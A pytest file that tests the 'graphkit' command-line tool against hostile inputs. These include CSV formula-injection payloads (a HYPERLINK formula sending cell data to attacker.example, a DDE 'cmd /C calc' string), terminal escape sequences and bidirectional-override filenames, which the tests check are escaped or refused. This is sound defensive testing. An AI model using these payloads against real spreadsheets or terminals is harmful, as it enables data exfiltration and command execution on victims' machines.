"""Issue 8's probe set, through the installed ``graphkit`` console script.

Each test is one class of failure found by probing graphkit as a hostile user would
(numbered as in the issue), replayed on small inputs in real subprocesses: formula
injection, formats and extensions, control characters, reserved and ``key``/``id``
columns, graph types in round trips, attributes set by hand, node-link JSON, scale,
progress, "did you mean" hints, reproducible bytes, near-duplicate ids, non-ASCII dates,
CSV limits, terminal escapes, files (leftovers, a full disk) and arguments. Whatever the
input, no command may end in a Python traceback.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import pty
import re
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from parts import missing

import graphkit as gk
from graphkit.io.spreadsheet import read_people_csv

EXE = Path(sys.executable).with_name("graphkit")
COMMAND = [str(EXE)] if EXE.exists() else [sys.executable, "-m", "graphkit"]
ENV = {**os.environ, "PYTHONIOENCODING": "utf-8", "GRAPHKIT_QUIET": ""}
TABLES_GUIDE = Path(__file__).resolve().parents[2] / "docs" / "guide" / "tables.md"
"""Where the data format is documented, reserved column names included."""


@dataclass
class Run:
    code: int
    out: str
    err: str


def start(*args: str, cwd: Path, tty: bool = False) -> subprocess.Popen | tuple:
    """Start ``graphkit ARGS`` (stderr on a pseudo-terminal when ``tty``)."""
    if not tty:
        return subprocess.Popen(
            [*COMMAND, *args],
            cwd=cwd,
            env=ENV,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            encoding="utf-8",
            errors="replace",
        )
    main, secondary = pty.openpty()
    process = subprocess.Popen(
        [*COMMAND, *args],
        cwd=cwd,
        env=ENV,
        stdout=subprocess.PIPE,
        stderr=secondary,
        text=True,
        encoding="utf-8",
        errors="replace",
    )
    os.close(secondary)
    chunks: list[bytes] = []

    def read() -> None:
        with contextlib.suppress(OSError):  # EIO once the process has closed the terminal
            while data := os.read(main, 4096):
                chunks.append(data)

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    return process, main, reader, chunks


def finish(started, timeout: float = 300) -> Run:
    if isinstance(started, tuple):
        process, main, reader, chunks = started
        out, _ = process.communicate(timeout=timeout)
        reader.join(timeout)
        os.close(main)
        err = b"".join(chunks).decode("utf-8", "replace")
    else:
        out, err = started.communicate(timeout=timeout)
        process = started
    assert "Traceback" not in err, err
    return Run(process.returncode, out, err)


def graphkit(*args: str, cwd: Path, tty: bool = False) -> Run:
    return finish(start(*args, cwd=cwd, tty=tty))


def together(cwd: Path, *commands: tuple[str, ...]) -> list[Run]:
    """Several commands at once (the machine has more than one core)."""
    started = [start(*c, cwd=cwd) for c in commands]
    return [finish(s) for s in started]


def write(folder: Path, actors: str, relations: str) -> list[str]:
    (folder / "a.csv").write_text(actors, encoding="utf-8")
    (folder / "r.csv").write_text(relations, encoding="utf-8")
    return ["--actors", "a.csv", "--relations", "r.csv"]


def frames(folder: Path, actors: pd.DataFrame, relations: pd.DataFrame) -> list[str]:
    actors.to_csv(folder / "a.csv", index=False)
    relations.to_csv(folder / "r.csv", index=False)
    return ["--actors", "a.csv", "--relations", "r.csv"]


def python(script: str, cwd: Path) -> Run:
    done = subprocess.run(
        [sys.executable, "-c", script],
        cwd=cwd,
        env=ENV,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    return Run(done.returncode, done.stdout, done.stderr)


ACTORS = "id,name,kind\nturkey,Turkey,state\nhts,HTS,armed_group\niran,Iran,state\n"
RELATIONS = "source,target,relation\nturkey,hts,backs\niran,hts,opposes\n"
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+2",
    "-2+3",
]


def hostile_tables(folder: Path, names: list[str] | None = None) -> list[str]:
    """Names, evidence and documents that are spreadsheet formulas (or ``names``)."""
    names = names or PAYLOADS
    actors = pd.DataFrame(
        {"id": [f"a{i}" for i in range(len(names))], "name": names, "kind": "state"}
    )
    rows = []
    for i in range(len(names)):
        for j, relation in ((i + 1, "backs"), (i + 3, "opposes")):
            rows.append(
                {
                    "source": f"a{i}",
                    "target": f"a{j % len(names)}",
                    "relation": relation,
                    "evidence": PAYLOADS[(i + j) % len(PAYLOADS)],
                    "document": PAYLOADS[i % len(PAYLOADS)],
                }
            )
    return frames(folder, actors, pd.DataFrame(rows))


# Text a terminal acts on: escape sequences (refused when read, but the refusal prints
# them), and what passes validation: bidirectional overrides, line separators, newlines.
TERMINAL_NAMES = ["RLO\u202eexe.gnp", "Line\u2028Separator", "New\nline: OK", "Plain"]


def test_01_csv_tables_for_people_are_formula_safe_and_read_back(tmp_path):
    # What the guide promises of the files `analyze --csv DIR` writes: UTF-8 with CRLF
    # line ends, every text cell a spreadsheet would run (=, +, -, @, tab, carriage return)
    # begins with an apostrophe, and read_people_csv reads them back exactly.
    inputs = hostile_tables(tmp_path)
    run = graphkit("analyze", *inputs, "--csv", "tables", cwd=tmp_path)
    assert run.code == 0, run.err
    # the reader strips spaces and tabs around values ("\t=1+2" is read as "=1+2")
    names = {n.strip() for n in pd.read_csv(tmp_path / "a.csv", keep_default_na=False)["name"]}
    payloads = {p.strip() for p in PAYLOADS}
    paths = sorted((tmp_path / "tables").iterdir())
    assert [p.name for p in paths] == ["camps.csv", "centrality.csv", "implied.csv", "tensions.csv"]
    cells = set()
    for path in paths:
        raw = path.read_bytes()
        raw.decode("utf-8")  # UTF-8, or this raises
        assert raw.count(b"\n") == raw.count(b"\r\n") >= 1, path.name  # CRLF line ends
        with path.open(encoding="utf-8", newline="") as handle:
            cells |= {cell for row in csv.reader(handle) for cell in row}
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only numbers may start so
    assert payloads <= {c[1:] for c in cells if c.startswith("'")}  # each one escaped...
    assert not payloads & cells  # ...and none bare
    centrality = read_people_csv(tmp_path / "tables" / "centrality.csv", index_col=0)
    assert set(centrality["name"]) == names  # read back exactly
    camps = read_people_csv(tmp_path / "tables" / "camps.csv")
    assert set(camps["name"]) == names
    evidence = read_people_csv(tmp_path / "tables" / "tensions.csv")["evidence"]
    assert len(evidence) and set(evidence) <= payloads


def test_02_the_format_follows_the_extension(tmp_path):
    gexf, contradiction, page, unknown, named = together(
        tmp_path,
        ("export", "-o", "out/g.gexf"),
        ("export", "-f", "json", "-o", "g.graphml"),
        ("build", "-o", "page.txt"),
        ("export", "-o", "g.txt"),
        ("export", "-f", "gexf", "-o", "g.xml"),
    )
    assert gexf.code == 0 and ET.parse(tmp_path / "out" / "g.gexf").getroot().tag.endswith("gexf")
    assert gk.read_graph(tmp_path / "out" / "g.gexf").number_of_edges() == 41
    for run in (contradiction, page, unknown):
        assert run.code == 2 and run.err.startswith("usage: graphkit")
    assert "which is GraphML, but the format asked for is json" in contradiction.err
    assert "ending in .html or .htm" in page.err
    assert named.code == 0 and gk.read_graph(tmp_path / "g.xml", format="gexf")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["g.xml", "out"]


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "json"])
def test_03_control_characters_are_refused_at_reading_every_one_located(tmp_path, fmt):
    # Control characters in CSV cells are refused when the tables are read, whatever the
    # format asked for, so no file is written. (Graphs made by hand reach the writers:
    # tests/io/test_graph_files.py checks that the XML writers refuse them and JSON keeps
    # them.)
    inputs = write(
        tmp_path,
        "id,name,kind,description\nturkey,Tur\x07key,state,NUL\x00 VT\x0b ESC\x1b[2J\n"
        "hts,HTS,armed_group,\n",
        "source,target,relation,evidence\nturkey,hts,backs,bell\x07\n",
    )
    run = graphkit("export", *inputs, "-f", fmt, "-o", f"g.{fmt}", cwd=tmp_path)
    assert run.code == 1 and run.out == ""
    assert run.err.startswith("graphkit: error: a.csv, r.csv: 3 problems"), run.err
    for located in (
        "a.csv, line 2, column 'name' (B): got 'Tur\\x07key'",
        "a.csv, line 2, column 'description' (D): got 'NUL\\x00 VT\\x0b ESC\\x1b[2J'",
        "r.csv, line 2, column 'evidence' (D): got 'bell\\x07'",
    ):
        assert located in run.err, run.err
    assert "(found U+0007 at character 4)" in run.err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "r.csv"]


def documented_reserved_column_names(table: str) -> list[str]:
    """The names the data-format guide lists as reserved in ``table``; a name in
    parentheses (an example of a key) is not a column name."""
    text = TABLES_GUIDE.read_text(encoding="utf-8")
    block = text[text.index("| table | reserved column names |") :].split("\n\n")[0]
    (row,) = [line for line in block.splitlines() if line.startswith(f"| {table} |")]
    cells = re.sub(r"\([^)]*\)", "", row.split("|")[2])
    return re.findall(r"`([a-z_]+)`", cells)


def test_the_guide_lists_exactly_the_reserved_columns_of_the_code():
    from graphkit.core.schema import RESERVED_ACTOR_COLUMNS, RESERVED_RELATION_COLUMNS

    assert documented_reserved_column_names("actors") == list(RESERVED_ACTOR_COLUMNS)
    assert documented_reserved_column_names("relations") == list(RESERVED_RELATION_COLUMNS)


def test_04_reserved_columns_are_refused_each_named_as_the_readme_promises(tmp_path):
    # the guide: reserved names "are refused with an error naming the column"
    actor_columns = documented_reserved_column_names("actors")
    relation_columns = documented_reserved_column_names("relations")
    inputs = write(
        tmp_path,
        f"id,name,kind,{','.join(actor_columns)}\n"
        f"turkey,Turkey,state,{','.join(['yes'] * len(actor_columns))}\n"
        f"hts,HTS,armed_group,{','.join(['no'] * len(actor_columns))}\n",
        f"source,target,relation,{','.join(relation_columns)}\n"
        f"turkey,hts,backs,{','.join(['-1'] * len(relation_columns))}\n",
    )
    run = graphkit("export", *inputs, "-o", "g.json", cwd=tmp_path)
    assert run.code == 1 and run.out == ""
    total = len(actor_columns) + len(relation_columns)
    assert run.err.startswith(f"graphkit: error: a.csv, r.csv: {total} problems"), run.err
    for file, columns in (("a.csv", actor_columns), ("r.csv", relation_columns)):
        for column in columns:
            assert (
                f"{file}, line 1, column '{column}'" in run.err
                and f"a column name other than '{column}', which is reserved" in run.err
            ), (column, run.err)
    assert not (tmp_path / "g.json").exists()


def test_05_key_and_id_columns_are_refused_by_every_command(tmp_path):
    inputs = write(
        tmp_path,
        ACTORS,
        "source,target,relation,key,id\nturkey,hts,backs,k1,same\niran,hts,opposes,k2,same\n",
    )
    runs = together(
        tmp_path,
        ("analyze", *inputs),
        ("export", *inputs, "-o", "g.gexf"),
        ("validate", *inputs),
        ("build", *inputs, "-o", "p.html"),
    )
    for run in runs:
        assert run.code == 1 and run.out == "", run
        assert run.err.startswith("graphkit: error: r.csv: 2 problems"), run.err
        assert "r.csv, line 1, column 'key' (D)" in run.err
        assert "r.csv, line 1, column 'id' (E)" in run.err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "r.csv"]


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "json"])
def test_06_round_trips_keep_the_graph_type(tmp_path, fmt):
    one_per_pair = write(tmp_path, ACTORS, RELATIONS)
    (tmp_path / "none.csv").write_text("source,target,relation\n")
    both = together(
        tmp_path,
        ("export", *one_per_pair, "-o", f"pairs.{fmt}"),
        ("export", "--actors", "a.csv", "--relations", "none.csv", "-o", f"none.{fmt}"),
    )
    assert [r.code for r in both] == [0, 0], [r.err for r in both]
    pairs, none = gk.read_graph(tmp_path / f"pairs.{fmt}"), gk.read_graph(tmp_path / f"none.{fmt}")
    assert type(pairs) is type(none) is gk.load_dataset().__class__
    assert list(pairs.edges(keys=True)) == [("turkey", "hts", "backs"), ("iran", "hts", "opposes")]
    assert none.number_of_nodes() == 3 and none.number_of_edges() == 0
    assert gk.diff(gk.snapshot(pairs, "2024-01-01"), gk.snapshot(none, "2024-01-01")).shape[0]


HAND_MADE = """
import datetime, json, sys
import networkx as nx, numpy as np
import graphkit as gk
results = {}
values = (["a", "list"], None, datetime.date(2024, 1, 1), {"a": 1}, np.int64(3), np.float32(0.5))
for value in values:
    for fmt in ("graphml", "gexf", "json"):
        G = nx.MultiDiGraph()
        G.add_edge("a", "b", key="k", value=value)
        G.nodes["a"]["value"] = value
        try:
            H = gk.read_graph(gk.write_graph(G, f"g.{fmt}"))
            same = H.edges["a", "b", "k"]["value"] == value and H.nodes["a"]["value"] == value
            outcome = "same" if same else f"changed: {H.edges['a', 'b', 'k']['value']!r}"
        except gk.DataError as exc:
            outcome = "refused: " + str(exc)
        results[f"{type(value).__name__} {fmt}"] = outcome
print(json.dumps(results))
"""


KEPT = {
    "list json",
    "dict json",
    "NoneType json",
    *(f"{t} {fmt}" for t in ("int64", "float32") for fmt in ("graphml", "gexf", "json")),
}
"""What each format holds exactly: JSON lists, dicts and None, and NumPy numbers anywhere;
the rest (XML lists, dicts, None and dates, JSON dates) is refused."""


def test_07_attributes_set_by_hand_are_written_faithfully_or_refused(tmp_path):
    results = json.loads(python(HAND_MADE, tmp_path).out)
    assert len(results) == 18
    for case, outcome in results.items():
        if case in KEPT:
            assert outcome == "same", (case, outcome)
        else:
            assert outcome.startswith("refused: "), (case, outcome)
            assert "node 'a', attribute 'value'" in outcome, outcome
            assert "edge ('a', 'b', 'k'), attribute 'value'" in outcome, outcome


LINKS = """
import json, networkx as nx, graphkit as gk
G = nx.MultiDiGraph([(1, 2, "k", {"sign": -1})])
json.dump(nx.node_link_data(G, edges="links"), open("d3.json", "w"))
H = gk.read_graph("d3.json")
print(json.dumps([type(H).__name__, list(H.nodes), [list(e) for e in H.edges(keys=True)]]))
"""


def test_08_node_link_json_with_links_and_ids_as_text(tmp_path):
    kind, nodes, edges = json.loads(python(LINKS, tmp_path).out)
    assert (kind, nodes, edges) == ("MultiDiGraph", ["1", "2"], [["1", "2", "k"]])


def zipf_tables(folder: Path, actors: int, relations: int, seed: int = 0) -> list[str]:
    """A random graphkit dataset whose actors' attention follows Zipf's law (each relation
    with its own evidence, as no statement is repeated)."""
    rng = np.random.default_rng(seed)
    kinds = ["state", "government", "armed_group", "organisation", "person", "city"]
    ids = np.array([f"a{i}" for i in range(actors)])
    weights = 1.0 / np.arange(1, actors + 1)
    weights /= weights.sum()
    source = rng.choice(actors, relations, p=weights)
    target = rng.choice(actors, relations, p=weights)
    target[source == target] = (target[source == target] + 1) % actors
    types = gk.default_vocabulary().relation_names()
    actor_table = pd.DataFrame(
        {
            "id": ids,
            "name": [f"Actor {i}" for i in range(actors)],
            "kind": rng.choice(kinds, actors),
        }
    )
    relation_table = pd.DataFrame(
        {
            "source": ids[source],
            "target": ids[target],
            "relation": rng.choice(types, relations),
            "evidence": [f"statement {i}" for i in range(relations)],
        }
    )
    return frames(folder, actor_table, relation_table)


SCALED = ("--top", "5", "--time-limit", "2")
"""A screenful, and camps proven within 2 s or reported as the best found."""


@pytest.mark.slow
def test_09_and_10_analyze_at_scale_prints_a_screenful_with_progress(tmp_path):
    inputs = zipf_tables(tmp_path, 1500, 6000)
    shown = start(
        "analyze", *inputs, *SCALED, "--csv", "t", "--implied-top", "300", cwd=tmp_path, tty=True
    )
    quiet = start("analyze", "--quiet", *inputs, *SCALED, cwd=tmp_path, tty=True)
    piped = start("analyze", *inputs, *SCALED, cwd=tmp_path)
    run, quiet, piped = finish(shown), finish(quiet), finish(piped)
    assert run.code == quiet.code == piped.code == 0, run.err
    lines = run.out.splitlines()
    assert len(lines) < 60, run.out
    assert sum(line.startswith("  camp ") for line in lines) <= 5
    assert "more camps" in run.out and "tensions (top 5 of" in run.out
    assert "Implied alignments (top 5 of 300 kept):" in run.out
    assert len(pd.read_csv(tmp_path / "t" / "implied.csv")) == 300
    # progress on the terminal; nothing with --quiet or when stderr is not a terminal
    assert "solving the camps (exact frustration index): done in" in run.err, run.err
    assert quiet.err == "" and piped.err == ""


def test_11_did_you_mean_hints_for_many_unknown_ids(tmp_path):
    actors = pd.DataFrame({"id": [f"actor_{i}" for i in range(3000)], "name": "x", "kind": "state"})
    unknown = [f"actr_{i}" for i in range(3000)]
    relations = pd.DataFrame({"source": unknown, "target": "actor_1", "relation": "backs"})
    run = graphkit("validate", *frames(tmp_path, actors, relations), cwd=tmp_path)
    assert run.code == 1
    assert "3,000 problems" in run.err or "3000 problems" in run.err
    assert "did you mean 'actor_0'" in run.err
    assert len(run.err) < 600_000


@pytest.mark.slow
def test_12_same_input_same_bytes_for_every_file(tmp_path):
    inputs = hostile_tables(tmp_path)
    commands = []
    for run in ("one", "two"):
        (tmp_path / run).mkdir()
        commands += [
            ("build", *inputs, "-o", f"{run}/page.html"),
            ("analyze", *inputs, "--csv", f"{run}/tables"),
            *[("export", *inputs, "-o", f"{run}/g.{fmt}") for fmt in ("graphml", "gexf", "json")],
        ]
    assert all(r.code == 0 for r in together(tmp_path, *commands))
    one = sorted(p.relative_to(tmp_path / "one") for p in (tmp_path / "one").rglob("*.*"))
    assert len(one) == 8
    for path in one:
        assert (tmp_path / "one" / path).read_bytes() == (tmp_path / "two" / path).read_bytes(), (
            path
        )


IMAGES = """
import sys, graphkit as gk
G = gk.load_dataset()
for fmt in ("png", "svg", "pdf"):
    gk.to_image(G, f"{sys.argv[1]}/syria.{fmt}")
"""


@pytest.mark.slow
def test_12_images_are_the_same_bytes_on_every_run(tmp_path):
    started = []
    for run in ("one", "two"):
        (tmp_path / run).mkdir()
        started.append(
            subprocess.Popen(
                [sys.executable, "-c", IMAGES, run], cwd=tmp_path, env=ENV, stderr=subprocess.PIPE
            )
        )
    for process in started:
        assert process.wait(timeout=300) == 0, process.stderr.read() if process.stderr else ""
    for fmt in ("png", "svg", "pdf"):
        one, two = (tmp_path / r / f"syria.{fmt}" for r in ("one", "two"))
        assert one.read_bytes() == two.read_bytes(), fmt


def test_13_near_duplicate_ids_are_flagged_with_their_lines(tmp_path):
    inputs = write(
        tmp_path,
        "id,name,kind\nturkey,Turkey,state\nTurkey,Turkey again,state\n"
        "caf\u00e9,Cafe,organisation\ncafe\u0301,Cafe NFD,organisation\nhts,HTS,armed_group\n"
        "hts\u200b,HTS with a zero-width space,armed_group\n",
        "source,target,relation\nturkey,Turkey,backs\n",
    )
    run = graphkit("validate", *inputs, cwd=tmp_path)
    assert run.code == 1
    for line in (3, 5, 7):
        assert f"line {line}" in run.err, run.err


def test_14_dates_must_be_ascii_iso(tmp_path):
    inputs = write(tmp_path, ACTORS, "source,target,relation,start\nturkey,hts,backs,٢٠٢٤-١٢-٠٧\n")
    run = graphkit("validate", *inputs, cwd=tmp_path)
    assert run.code == 1 and "line 2, column 'start'" in run.err


def test_15_csv_limits_are_located_and_values_shortened(tmp_path):
    big = "x" * 200_000
    (tmp_path / "long.csv").write_text(
        f"source,target,relation\nturkey,hts,backs\nturkey,hts,{big}\n"
    )
    rows = ["source,target,relation", *["turkey,hts,backs"] * 200, 'turkey,"hts,backs']
    rows += ["turkey,hts,backs"] * 300
    (tmp_path / "quote.csv").write_text("\n".join(rows) + "\n")
    (tmp_path / "a.csv").write_text(ACTORS)
    long_run, quote_run = together(
        tmp_path,
        ("validate", "--actors", "a.csv", "--relations", "long.csv"),
        ("validate", "--actors", "a.csv", "--relations", "quote.csv"),
    )
    assert long_run.code == 1 and "column 'relation'" in long_run.err
    assert len(long_run.err) < 5_000  # the 200,000 characters are not echoed
    assert quote_run.code == 1 and "line 202" in quote_run.err, quote_run.err


def test_16_data_text_reaches_the_terminal_inert(tmp_path):
    inputs = hostile_tables(tmp_path, TERMINAL_NAMES)
    (tmp_path / "escapes.csv").write_text(
        "id,name,kind\nturkey,Turkey\x1b[2J\x1b]0;pwned\x07,state\nhts,HTS,armed_group\n"
    )
    (tmp_path / "two.csv").write_text(RELATIONS.replace("iran,hts,opposes\n", ""))
    runs = together(
        tmp_path,
        ("analyze", *inputs),
        ("build", *inputs, "-o", "p.html"),
        ("build", "--actors", "escapes.csv", "--relations", "two.csv", "-o", "q.html"),
    )
    for run in runs:
        shown = run.out + run.err
        for raw in ("\x1b", "\x07", "\u202e", "\u2028"):
            assert raw not in shown
    assert runs[0].code == runs[1].code == 0, runs[0].err
    assert "RLO\\u202eexe.gnp" in runs[0].out and "New\\nline: OK" in runs[0].out
    assert not any(line.startswith("line: OK") for line in runs[1].out.splitlines())
    # a name with escape sequences is refused when read, and the refusal shows it inert
    assert runs[2].code == 1 and runs[2].out == ""
    assert "escapes.csv, line 2, column 'name' (B): got 'Turkey\\x1b[2J\\x1b]0;pwned\\x07'" in (
        runs[2].err
    ), runs[2].err
    assert not (tmp_path / "q.html").exists()


def test_17_leftovers_of_killed_runs_are_removed(tmp_path):
    ended = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    ).stdout.strip()
    (tmp_path / "out").mkdir()
    leftover = tmp_path / "out" / f".syria-2024.graphml.{ended}.k9x2.tmp"
    leftover.write_text("half a graph")
    assert graphkit("export", cwd=tmp_path).code == 0
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["syria-2024.graphml"]


@pytest.mark.slow
def test_17_a_killed_export_leaves_nothing_the_next_run_keeps(tmp_path):
    inputs = zipf_tables(tmp_path, 3000, 40_000)
    process = subprocess.Popen(
        [*COMMAND, "export", *inputs, "-o", "out/g.graphml"], cwd=tmp_path, env=ENV
    )
    out = tmp_path / "out"
    while process.poll() is None and not (out.exists() and any(out.glob(".g.graphml.*.tmp"))):
        threading.Event().wait(0.01)
    process.kill()
    process.wait()
    if not list(out.glob(".g.graphml.*.tmp")):
        missing("the export finished before it could be killed")
    assert graphkit("export", "-o", "out/g.graphml", cwd=tmp_path).code == 0
    assert [p.name for p in out.iterdir()] == ["g.graphml"]


def test_17_a_full_disk_is_reported_and_old_tables_are_kept(tmp_path):
    disk = tmp_path / "disk"
    disk.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=16k", "tmpfs", str(disk)],
        capture_output=True,
        text=True,
    )
    if done.returncode:
        missing(f"cannot mount a small tmpfs to fill a disk ({done.stderr.strip()})")
    try:
        for name in ("centrality", "camps", "tensions", "implied"):
            (disk / f"{name}.csv").write_text(f"old {name}\n")
        run = graphkit("analyze", "--csv", str(disk), cwd=tmp_path)
        assert run.code == 1
        assert "no space left on the device" in run.err and "nothing was written" in run.err
        assert sorted(p.name for p in disk.iterdir()) == [
            "camps.csv",
            "centrality.csv",
            "implied.csv",
            "tensions.csv",
        ]
        assert (disk / "implied.csv").read_text() == "old implied\n"
    finally:
        subprocess.run(["umount", str(disk)], check=True)


def test_18_arguments_and_both_files_checked(tmp_path):
    inputs = write(
        tmp_path,
        "id,name,kind\nturkey,Turkey,stat\n",
        "source,target,relation\nturkey,hts,backs\n",
    )
    zero, negative, both = together(
        tmp_path,
        ("analyze", "--top", "0"),
        ("analyze", "--top", "-1"),
        ("validate", *inputs),
    )
    assert zero.code == negative.code == 2
    assert both.code == 1
    assert "a.csv, line 2, column 'kind'" in both.err and "r.csv, line 2" in both.err
